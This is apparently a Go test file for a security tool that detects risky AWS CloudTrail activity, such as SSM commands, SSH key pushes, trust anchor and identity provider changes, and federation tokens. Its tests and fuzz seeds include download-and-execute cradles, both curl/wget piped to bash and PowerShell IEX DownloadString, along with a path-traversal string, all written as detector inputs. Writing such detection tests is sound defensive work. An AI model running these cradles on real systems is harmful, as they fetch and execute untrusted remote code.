package detect

import (
	"strings"
	"testing"

	"github.com/trailwatch/trailwatch/internal/event"
)

// instanceIDs are the detections of execution on instances and new trust
// paths (instances.go and the files that use it).
var instanceIDs = []string{
	"ssm-command-sent", "ssm-session-started", "ec2-ssh-key-pushed",
	"roles-anywhere-trust-changed", "identity-provider-created-or-changed", "federation-token-issued",
}

func TestDownloadRun(t *testing.T) {
	for _, tc := range []struct {
		command string
		want    bool
	}{
		{"curl -s http://198.51.100.7/a.sh | bash", true},
		{"wget -qO- http://198.51.100.7/a | sh", true},
		{"curl http://x/i.sh | sudo bash -s -- --agent", true},
		{"curl -fsSL https://x/i | /bin/bash", true},
		{"curl -fsSL https://x/i | python3 -", true},
		{`bash -c "$(curl -fsSL https://x/install.sh)"`, true},
		{"bash <(curl -s https://x/i.sh)", true},
		{"sh -c '$(wget -qO- http://x/i)'", true},
		{"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", true},
		{"iex(iwr http://x/a.ps1 -UseBasicParsing)", true},
		{"iwr http://x/a.ps1 -UseBasicParsing | iex", true},
		{"Invoke-WebRequest -Uri http://x/a.ps1 | Invoke-Expression", true},
		{"(New-Object System.Net.WebClient).DownloadString('http://x') | IEX", true},
		{"curl -o /tmp/agent.rpm https://x/agent.rpm", false},
		{"wget https://x/f.tar.gz && tar xf f.tar.gz", false},
		{"curl -s http://169.254.169.254/latest/meta-data/ | shasum", false},
		{"curl -s https://x/health | tee /tmp/out", false},
		{"Invoke-WebRequest -Uri https://x/a.zip -OutFile C:\\a.zip", false},
		{"yum update -y && systemctl restart nginx", false},
		{"echo curl | grep sh", false},
	} {
		t.Run(tc.command, func(t *testing.T) {
			if got := downloadRun([]string{"uptime", tc.command}) != ""; got != tc.want {
				t.Errorf("downloadRun(%q) = %v, want %v", tc.command, got, tc.want)
			}
		})
	}
}

// TestInstanceDecisions covers decisions the fixtures do not: each case is
// one record and the severity it must produce (0: no finding).
func TestInstanceDecisions(t *testing.T) {
	call := func(source, name string, who map[string]any, req any) map[string]any {
		return map[string]any{"eventSource": source, "eventName": name, "userIdentity": who, "requestParameters": req}
	}
	longTerm := map[string]any{"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/alice", "accountId": "111122223333", "userName": "alice", "accessKeyId": "AKIAEXAMPLEALICE0001"}
	consoleUser := map[string]any{"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/alice", "accountId": "111122223333", "userName": "alice", "accessKeyId": "ASIAEXAMPLEALICE0001"}
	shell := func(cmds ...any) map[string]any {
		return map[string]any{"instanceIds": []any{"i-0123456789abcdef0"}, "documentName": "AWS-RunShellScript", "parameters": map[string]any{"commands": cmds}}
	}
	for _, tc := range []struct {
		name, id string
		record   map[string]any
		want     Severity
	}{
		{"command by root", "ssm-command-sent", call(ssmSource, "SendCommand", testRoot, shell("uptime")), SeverityHigh},
		{"command by a console user", "ssm-command-sent", call(ssmSource, "SendCommand", consoleUser, shell("uptime")), SeverityMedium},
		{"command by a long-term key", "ssm-command-sent", call(ssmSource, "SendCommand", longTerm, shell("uptime")), SeverityHigh},
		{"powershell download cradle", "ssm-command-sent", call(ssmSource, "SendCommand", testRole, map[string]any{
			"instanceIds": []any{"i-0123456789abcdef0"}, "documentName": "AWS-RunPowerShellScript",
			"parameters": map[string]any{"commands": []any{"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"}}}), SeverityHigh},
		{"commands as one string", "ssm-command-sent", call(ssmSource, "SendCommand", testRole, shell("curl http://x | sh")), SeverityHigh},
		{"no targets recorded", "ssm-command-sent", call(ssmSource, "SendCommand", testRole, map[string]any{"documentName": "AWS-RunShellScript"}), SeverityMedium},
		{"other event name", "ssm-command-sent", call(ssmSource, "ListCommands", testRole, nil), 0},
		{"session to a hybrid node", "ssm-session-started", call(ssmSource, "StartSession", testRole, map[string]any{"target": "mi-0123456789abcdef0"}), SeverityMedium},
		{"session by root", "ssm-session-started", call(ssmSource, "StartSession", testRoot, map[string]any{"target": "i-0123456789abcdef0"}), SeverityHigh},
		{"interactive command that downloads", "ssm-session-started", call(ssmSource, "StartSession", testRole, map[string]any{"target": "i-0123456789abcdef0",
			"documentName": "AWS-StartInteractiveCommand", "parameters": map[string]any{"command": []any{"wget -qO- http://x/m | bash"}}}), SeverityHigh},
		{"ssh key for root", "ec2-ssh-key-pushed", call(instanceConnectSource, "SendSSHPublicKey", testRole, map[string]any{"instanceId": "i-0123456789abcdef0", "instanceOSUser": "root", "sSHPublicKey": "ssh-rsa AAAA"}), SeverityHigh},
		{"serial console by a long-term key", "ec2-ssh-key-pushed", call(instanceConnectSource, "SendSerialConsoleSSHPublicKey", longTerm, map[string]any{"instanceId": "i-0123456789abcdef0", "sSHPublicKey": "ssh-rsa AAAA"}), SeverityHigh},
		{"anchor renamed", "roles-anywhere-trust-changed", call(rolesAnywhereEventSource, "UpdateTrustAnchor", testRole, map[string]any{"trustAnchorId": "5d0e3a71-8c2b-4f19-a6e4-7b90c1d2e3f4", "name": "renamed"}), SeverityMedium},
		{"anchor from AWS Private CA", "roles-anywhere-trust-changed", call(rolesAnywhereEventSource, "CreateTrustAnchor", testRole, map[string]any{"name": "pca",
			"source": map[string]any{"sourceType": "AWS_ACM_PCA", "sourceData": map[string]any{"acmPcaArn": "arn:aws:acm-pca:us-east-1:111122223333:certificate-authority/x"}}}), SeverityHigh},
		{"anchor delete", "roles-anywhere-trust-changed", call(rolesAnywhereEventSource, "DeleteTrustAnchor", testRole, nil), 0},
		{"saml without metadata", "identity-provider-created-or-changed", call(iamSource, "CreateSAMLProvider", testRole, map[string]any{"name": "x"}), SeverityHigh},
		{"saml provider deleted", "identity-provider-created-or-changed", call(iamSource, "DeleteSAMLProvider", testRole, nil), 0},
		{"federation token by root", "federation-token-issued", call(stsSource, "GetFederationToken", testRoot, map[string]any{"name": "x", "policyArns": []any{map[string]any{"arn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}}}), SeverityHigh},
		{"federation token by a caller without a long-term key", "federation-token-issued", call(stsSource, "GetFederationToken", consoleUser, map[string]any{"name": "x", "policy": `{"Statement":{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}}`}), SeverityMedium},
		{"federation token with a scoped policy", "federation-token-issued", call(stsSource, "GetFederationToken", longTerm, map[string]any{"name": "x", "policy": `{"Statement":{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}}`}), SeverityHigh},
		{"session token is not a federation token", "federation-token-issued", call(stsSource, "GetSessionToken", longTerm, nil), 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := identityDetection(t, tc.id)
			f, ok := d.Evaluate(ctEvent(t, tc.record), &Env{})
			switch {
			case tc.want == 0 && ok:
				t.Errorf("%s fired (%s: %s), want no finding", tc.id, f.Severity, f.Headline)
			case tc.want != 0 && !ok:
				t.Errorf("%s did not fire, want %s", tc.id, tc.want)
			case ok && f.Severity != tc.want:
				t.Errorf("%s: severity %s (%s), want %s", tc.id, f.Severity, f.Headline, tc.want)
			}
			if ok && (f.Headline == "" || f.Resource.Type == "") {
				t.Errorf("finding without headline or resource: %+v", f)
			}
			for _, e := range f.Evidence {
				if e.Label == "" {
					t.Errorf("evidence without label: %+v", e)
				}
			}
		})
	}
}

func TestManagedNodeResource(t *testing.T) {
	rec := ctEvent(t, map[string]any{"eventSource": ssmSource, "eventName": "StartSession"}).CloudTrail
	for _, tc := range []struct{ id, typ, arn string }{
		{"i-0123456789abcdef0", "EC2 instance", "arn:aws:ec2:us-east-1:111122223333:instance/i-0123456789abcdef0"},
		{"mi-0123456789abcdef0", "SSM managed node", "arn:aws:ssm:us-east-1:111122223333:managed-instance/mi-0123456789abcdef0"},
		{"i-0123/../../evil", "EC2 instance", ""},
		{"", "EC2 instance", ""},
	} {
		r := managedNodeResource(rec, tc.id)
		if r.Type != tc.typ || r.ARN != tc.arn {
			t.Errorf("managedNodeResource(%q) = %+v, want type %q, ARN %q", tc.id, r, tc.typ, tc.arn)
		}
	}
}

func TestEvidenceParsersSurviveOddInput(t *testing.T) {
	if got := sshKeySummary("ssh-ed25519 not-base64!"); got != "ssh-ed25519 not-base64!" {
		t.Errorf("sshKeySummary of a bad key = %q, want it as written", got)
	}
	if got := describeCertificates("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"); !strings.HasPrefix(got, "unparseable certificate") {
		t.Errorf("describeCertificates of a bad certificate = %q", got)
	}
	if got := describeCertificates("not pem"); !strings.Contains(got, "no PEM certificate") {
		t.Errorf("describeCertificates of text = %q", got)
	}
	for _, doc := range []string{"<not xml", "<EntityDescriptor><X509Certificate>%%%</X509Certificate></EntityDescriptor>", strings.Repeat("<a>", 200000)} {
		if ev := samlMetadataEvidence(doc); len(ev) == 0 || ev[0].Label == "" {
			t.Errorf("samlMetadataEvidence(%.30q) = %+v", doc, ev)
		}
	}
}

// TestInstanceDetectionsSurviveOddInput runs the group's detections on
// records whose variable parts have the wrong shape: none may panic, and
// none may fire on an event without a CloudTrail record.
func TestInstanceDetectionsSurviveOddInput(t *testing.T) {
	odd := []any{nil, "x", 7, true, []any{}, []any{"a", 1}, map[string]any{},
		map[string]any{"instanceIds": "i-1", "targets": map[string]any{"key": 1}, "parameters": []any{1}, "source": "x", "roleArns": 5,
			"sAMLMetadataDocument": 3, "policy": map[string]any{"Statement": 5}, "policyArns": "x", "serialPort": "x", "trustAnchorId": []any{}}}
	names := []string{"SendCommand", "StartSession", "SendSSHPublicKey", "SendSerialConsoleSSHPublicKey", "CreateTrustAnchor",
		"UpdateTrustAnchor", "CreateProfile", "UpdateProfile", "CreateSAMLProvider", "UpdateSAMLProvider", "CreateOpenIDConnectProvider",
		"UpdateOpenIDConnectProviderThumbprint", "AddClientIDToOpenIDConnectProvider", "GetFederationToken", "X"}
	identities := []map[string]any{testRoot, testIAMUser, testRole, {}}
	notCloudTrail, err := event.Decode([]byte(`{"version":"0","id":"x","detail-type":"GuardDuty Finding","source":"aws.guardduty","account":"111122223333","time":"2026-11-23T10:00:00Z","region":"us-east-1","resources":[],"detail":{"type":"Recon"}}`))
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range instanceIDs {
		d := identityDetection(t, id)
		t.Run(id, func(t *testing.T) {
			if _, ok := d.Evaluate(notCloudTrail, &Env{}); ok {
				t.Error("fired on an event without a CloudTrail record")
			}
			for _, name := range names {
				for _, who := range identities {
					for _, v := range odd {
						for _, failed := range []string{"", "AccessDenied"} {
							rec := map[string]any{"eventSource": ssmSource, "eventName": name, "userIdentity": who,
								"requestParameters": v, "responseElements": v}
							if failed != "" {
								rec["errorCode"] = failed
							}
							func() {
								defer func() {
									if r := recover(); r != nil {
										t.Fatalf("panic on %s by %v with %v: %v", name, who, v, r)
									}
								}()
								f, ok := d.Evaluate(ctEvent(t, rec), &Env{})
								if ok && (f.Headline == "" || !f.Severity.Valid()) {
									t.Errorf("%s: finding without headline or severity: %+v", name, f)
								}
								if ok && failed != "" && f.Severity > SeverityLow {
									t.Errorf("%s: a denied call came out %s", name, f.Severity)
								}
							}()
						}
					}
				}
			}
		})
	}
}

// FuzzInstanceDecisions feeds arbitrary request parameters and responses to
// the decisions of execution on instances and new trust paths, whose
// parsers read scripts, SSH keys, PEM bundles and SAML metadata.
func FuzzInstanceDecisions(f *testing.F) {
	f.Add("SendCommand", `{"instanceIds":["i-0123456789abcdef0"],"documentName":"AWS-RunShellScript","parameters":{"commands":["curl x | sh"]}}`, `{"command":{"commandId":"c"}}`)
	f.Add("StartSession", `{"target":"mi-0123456789abcdef0","parameters":{"command":["iwr x | iex"]}}`, `{"sessionId":"s"}`)
	f.Add("SendSSHPublicKey", `{"instanceId":"i-1","instanceOSUser":"root","sSHPublicKey":"ssh-ed25519 AAAA c"}`, ``)
	f.Add("CreateTrustAnchor", `{"name":"a","source":{"sourceType":"CERTIFICATE_BUNDLE","sourceData":{"x509CertificateData":"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"}}}`, `{"trustAnchor":{"trustAnchorArn":"x"}}`)
	f.Add("CreateSAMLProvider", `{"name":"p","sAMLMetadataDocument":"<EntityDescriptor entityID=\"e\"><X509Certificate>MIIB</X509Certificate></EntityDescriptor>"}`, ``)
	f.Add("GetFederationToken", `{"name":"n","policy":"{\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}"}`, `{"federatedUser":{"arn":"a"}}`)
	f.Fuzz(func(t *testing.T, name, params, response string) {
		for _, id := range instanceIDs {
			d := identityDetection(t, id)
			for _, errorCode := range []string{"", "AccessDenied"} {
				fd, ok := d.Evaluate(apiEvent(name, params, response, errorCode), &Env{})
				if ok && (fd.Headline == "" || fd.Resource.Type == "" || !fd.Severity.Valid()) {
					t.Errorf("%s: incomplete finding %+v", id, fd)
				}
				if ok && errorCode != "" && fd.Severity > SeverityLow {
					t.Errorf("%s: a denied call came out %s", id, fd.Severity)
				}
			}
		}
	})
}
